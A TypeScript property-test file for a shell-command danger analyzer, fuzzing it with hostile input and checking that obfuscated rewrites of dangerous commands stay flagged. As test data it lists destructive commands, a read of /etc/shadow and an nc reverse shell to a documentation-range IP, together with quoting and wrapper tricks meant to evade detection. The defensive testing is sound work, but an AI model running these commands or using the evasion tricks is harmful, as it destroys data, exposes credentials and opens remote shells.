/** Property tests: hostile input never throws nor overruns the budget; semantics-preserving
 * rewrites of dangerous lines stay flagged. */
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { createAnalyzer, DEFAULT_TIME_BUDGET_MS, type Analyzer } from './index.js';

let a: Analyzer;
beforeAll(async () => {
  a = await createAnalyzer();
});

const SHELLY = [...' \t\n;&|<>()[]{}$`\'"\\*?!#=~%-_./:,0123456789abcrmfsuhdlEOFx'];
const shellish = fc.array(fc.oneof(fc.constantFrom(...SHELLY), fc.constantFrom('rm', '-rf', '/', 'sudo', 'bash -c', '$(', '<<EOF', '\nEOF\n', '${', '}', "$'\\x", 'eval', 'psql -c', ' | sh', '&&')), { maxLength: 60 }).map((p) => p.join(''));

describe('robustness', () => {
  it('random and hostile input never throws and always answers within the budget', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: 'grapheme', maxLength: 80 }), shellish), (line) => {
        const t = performance.now();
        const r = a.analyze(line);
        const ms = performance.now() - t;
        expect(r.line).toBe(line);
        expect(Array.isArray(r.intents)).toBe(true);
        // Over the budget, the answer must be the fail-closed one (slack covers the final checks).
        if (ms > DEFAULT_TIME_BUDGET_MS + 25) expect(r.intents.map((i) => i.explanation).join()).toMatch(/time budget/);
        if (!r.complete) expect(r.intents.some((i) => i.category === 'evasion')).toBe(true);
      }),
      { numRuns: 1500 },
    );
  });
  it('a parse error never yields an empty, safe-looking result', () => {
    fc.assert(
      fc.property(shellish, (line) => {
        const r = a.analyze(line);
        const errors = r.commands.some((c) => c.kind === 'error');
        if (errors) expect(r.intents.some((i) => i.category === 'evasion')).toBe(true);
      }),
      { numRuns: 800 },
    );
  });
});

const DANGEROUS = [
  ['rm', '-rf', '/srv/data'],
  ['reboot'],
  ['dropdb', 'billing'],
  ['shred', '-u', '/srv/db.sqlite'],
  ['history', '-c'],
  ['cat', '/etc/shadow'],
  ['kubectl', 'delete', 'ns', 'prod'],
  ['redis-cli', 'FLUSHALL'],
  ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
  ['terraform', 'destroy'],
] as const;

/** Rewrites a word without changing what bash makes of it. */
const quoteWord = (w: string, style: number): string => {
  switch (style % 6) {
    case 0: return w;
    case 1: return `'${w}'`;
    case 2: return `"${w}"`;
    case 3: return w.split('').map((c) => (/[a-z]/.test(c) ? `\\${c}` : c)).join('');
    case 4: return `${w.slice(0, 1)}''${w.slice(1)}`;
    default: return `$'${[...w].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`;
  }
};
const WRAPPERS = ['', 'sudo ', 'env ', 'nice -n 5 ', 'timeout 10 ', 'nohup ', 'stdbuf -oL ', 'command ', 'doas ', 'ionice -c3 '];
const PREFIXES = ['', 'ls && ', 'true; ', 'echo ok\n', 'cd /tmp || ', 'date | wc -c; '];

describe('semantics-preserving rewrites stay flagged', () => {
  it('quote changes, escapes, wrappers, lists and newlines', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...DANGEROUS),
        fc.array(fc.nat(), { minLength: 6, maxLength: 6 }),
        fc.constantFrom(...WRAPPERS),
        fc.constantFrom(...PREFIXES),
        fc.constantFrom('sh -c', 'bash -c', 'eval', ''),
        (argv, styles, wrapper, prefix, shell) => {
          const words = argv.map((w, i) => quoteWord(w, styles[i] ?? 0)).join(' ');
          const body = shell === '' ? words : `${shell} ${JSON.stringify(argv.join(' '))}`;
          const line = `${prefix}${wrapper}${body}`;
          const r = a.analyze(line);
          expect(r.intents.length, line).toBeGreaterThan(0);
        },
      ),
      { numRuns: 1500 },
    );
  });
  it('splitting an assignment and a use across ; or newlines', () => {
    fc.assert(
      fc.property(fc.constantFrom(...DANGEROUS), fc.constantFrom('; ', '\n', ' && '), (argv, sep) => {
        const line = `c=${argv[0]}${sep}$c ${argv.slice(1).join(' ')}`;
        expect(a.analyze(line).intents.length, line).toBeGreaterThan(0);
      }),
    );
  });
});
